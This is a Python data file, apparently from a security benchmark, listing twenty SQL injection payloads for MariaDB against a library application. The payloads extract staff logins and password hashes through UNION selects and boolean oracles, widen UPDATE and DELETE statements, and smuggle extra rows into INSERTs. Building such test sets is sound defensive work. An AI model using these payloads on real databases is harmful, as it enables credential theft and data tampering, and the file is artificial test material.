"""Twenty injections for MariaDB."""

from bench.campaigns.byhand import Injection

INJECTIONS = (
    Injection("member_by_card", "card_no", "{v}' OR card_no > 'L", "a range beside the key"),
    Injection(
        "member_by_card",
        "card_no",
        "{v}' UNION SELECT s.id, s.login, s.password_hash, m.active FROM staff s JOIN member m ON "
        "m.id = s.id WHERE s.login <> '",
        "a union with a join that serves the rest of the statement",
    ),
    Injection("member_by_id", "member_id", "{v} OR active", "a bare column as predicate"),
    Injection("member_by_id", "member_id", "GREATEST(id, 0)", "a function of the column as the value"),
    Injection("loans_of_member", "member_id", "{v} OR l.id IN (SELECT id FROM loan)", "IN over the whole table"),
    Injection("copies_of_titles", "title_ids", "{v}) OR state IN ('lent', 'shelf'", "a second list"),
    Injection(
        "catalogue",
        "sort",
        "CASE (SELECT role FROM staff ORDER BY id LIMIT 1) WHEN 'admin' THEN name ELSE year END",
        "CASE as the order",
    ),
    Injection("title_search", "word", "{v}%' OR a.country LIKE '%", "another table's column searched"),
    Injection("orm_member", "email", "{v}' OR `member`.`email` LIKE '%.org", "a pattern in the style of an ORM"),
    Injection(
        "subject_report", "minimum", "{v} OR max(t.price) > (SELECT min(amount) FROM fine)", "HAVING with an aggregate"
    ),
    Injection(
        "overdue", "city", "{v}' OR m.city IN (SELECT city FROM branch) OR m.notes = '", "a list from another table"
    ),
    Injection("review_add", "stars", "(SELECT max(id) FROM staff)", "a sub-select as a number to insert"),
    Injection(
        "review_add",
        "plain_text",
        "{v}'), (7, 7, 5, (SELECT GROUP_CONCAT(login) FROM staff)), (8, 8, 4, 'fine",
        "more rows inserted than were asked for",
    ),
    Injection("member_phone", "member_id", "{v} OR city = 'Lyon'", "UPDATE widened"),
    Injection("hold_cancel", "member_id", "{v} OR status = 'open'", "DELETE widened"),
    Injection(
        "setting_save",
        "plain_text",
        "{v}'), ('mail_from', (SELECT email FROM staff WHERE role = 'admin' LIMIT 1)), ('banner', '{v}",
        "other settings written too",
    ),
    Injection(
        "busy_members",
        "minimum",
        "{v} AND m.id IN (SELECT f.member_id FROM fine f JOIN staff s ON s.id < f.id WHERE s.password_hash < 'c')",
        "a join as an oracle",
    ),
    Injection(
        "joined_by_month",
        "date",
        "{v}' AND (SELECT count(*) FROM staff WHERE password_hash LIKE 'a%') > '0",
        "a counting oracle",
    ),
    Injection(
        "author_suggest",
        "prefix",
        "{v}%' UNION SELECT id, password_hash FROM staff WHERE login LIKE 'd",
        "union in LIKE",
    ),
    Injection(
        "member_by_id",
        "member_id",
        "{v} UNION SELECT id, JSON_ARRAYAGG(login), role, email, NULL FROM staff GROUP BY id",
        "union with a JSON aggregate",
    ),
)
"""Each of them runs without an error."""
